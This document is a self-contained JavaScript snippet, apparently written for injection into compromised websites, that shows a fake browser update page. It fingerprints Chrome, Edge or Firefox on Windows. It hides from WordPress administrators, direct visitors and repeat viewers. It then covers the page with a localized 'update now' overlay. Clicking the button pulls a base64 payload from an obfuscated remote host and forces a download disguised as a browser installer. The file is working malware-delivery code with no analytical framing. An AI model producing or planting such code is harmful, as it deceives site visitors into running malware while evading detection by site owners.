(function () {
  'use strict';
  var CFG = {
    key: 'brw_upd_seen',
    days: 2,
    path: ['u', 'p', 'd'].join(''),
    host: decodeURIComponent('%63%64%6e') + '.' + 'browser-channel' + '.' + 'invalid'
  };
  var names = {
    chrome: { title: 'Chrome', color: '#1a73e8', file: 'Chrome-Setup.js.zip' },
    edge: { title: 'Edge', color: '#0a84a4', file: 'Edge-Update.msix' },
    firefox: { title: 'Firefox', color: '#e66000', file: 'Firefox-Patch.zip' }
  };
  var texts = {
    en: ['You are using an older version of {b}', 'Update now to keep your {b} running smoothly and securely.', 'Update {b}'],
    de: ['Sie verwenden eine veraltete Version von {b}', 'Aktualisieren Sie jetzt, damit {b} sicher läuft.', '{b} aktualisieren'],
    pl: ['Używasz starszej wersji {b}', 'Zaktualizuj teraz, aby {b} działał bezpiecznie.', 'Aktualizuj {b}']
  };
  function which() {
    var u = navigator.userAgent;
    if (/Edg\//.test(u)) return names.edge;
    if (/Firefox\//.test(u)) return names.firefox;
    return /Chrome\//.test(u) ? names.chrome : null;
  }
  function skip() {
    if (!/Windows NT 1[01]/.test(navigator.userAgent)) return true;
    if (document.cookie.indexOf('wordpress_') > -1 || document.cookie.indexOf('wp-settings') > -1) return true;
    if (!document.referrer || document.referrer.split('/')[2] === location.host) return true;
    var t = +localStorage.getItem(CFG.key);
    return t && Date.now() - t < CFG.days * 864e5;
  }
  function say(n, b) {
    var l = texts[navigator.language.slice(0, 2)] || texts.en;
    return l[n].replace(/\{b\}/g, b.title);
  }
  function draw(b) {
    var f = document.createElement('iframe');
    f.style.cssText = 'position:fixed;top:0;left:0;width:100%;height:100%;border:0;z-index:2147483647;background:#fff';
    document.documentElement.style.overflow = 'hidden';
    document.body.appendChild(f);
    var d = f.contentWindow.document;
    d.open();
    d.write('<style>body{font-family:Segoe UI,Arial;text-align:center;padding-top:12%}a{display:inline-block;padding:12px 28px;border-radius:4px;color:#fff;background:' + b.color + '}</style>' +
      '<img width="90" src="https://' + CFG.host + '/i/' + b.title.toLowerCase() + '.svg"><h1>' + say(0, b) + '</h1><p>' + say(1, b) + '</p><a id="go" href="#">' + say(2, b) + '</a>');
    d.close();
    d.getElementById('go').onclick = function (e) {
      e.preventDefault();
      localStorage.setItem(CFG.key, Date.now());
      get('https://' + CFG.host + '/' + CFG.path + '?b=' + b.title + '&s=' + location.hostname, function (body) {
        var a = d.createElement('a');
        a.href = 'data:application/octet-stream;base64,' + body;
        a.download = b.file;
        d.body.appendChild(a);
        a.click();
        d.querySelector('h1').textContent = 'Open ' + b.file;
        setTimeout(function () { f.remove(); document.documentElement.style.overflow = ''; }, 60000);
      });
    };
  }
  function get(u, cb) {
    var x = new XMLHttpRequest();
    x.open('GET', u);
    x.onload = function () { if (x.status === 200) cb(x.responseText); };
    x.send();
  }
  var b = which();
  if (!b || skip()) return;
  if (document.readyState !== 'loading') setTimeout(draw, 800, b);
  else document.addEventListener('DOMContentLoaded', function () { setTimeout(draw, 800, b); });
})();
